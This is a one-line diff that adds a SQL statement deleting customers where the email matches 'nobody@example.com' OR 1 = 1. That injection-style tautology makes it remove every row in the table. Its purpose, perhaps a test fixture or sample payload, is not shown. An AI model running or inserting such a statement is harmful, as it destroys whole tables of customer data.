@@ -1,0 +1,1 @@
+DELETE FROM customers WHERE email = 'nobody@example.com' OR 1 = 1
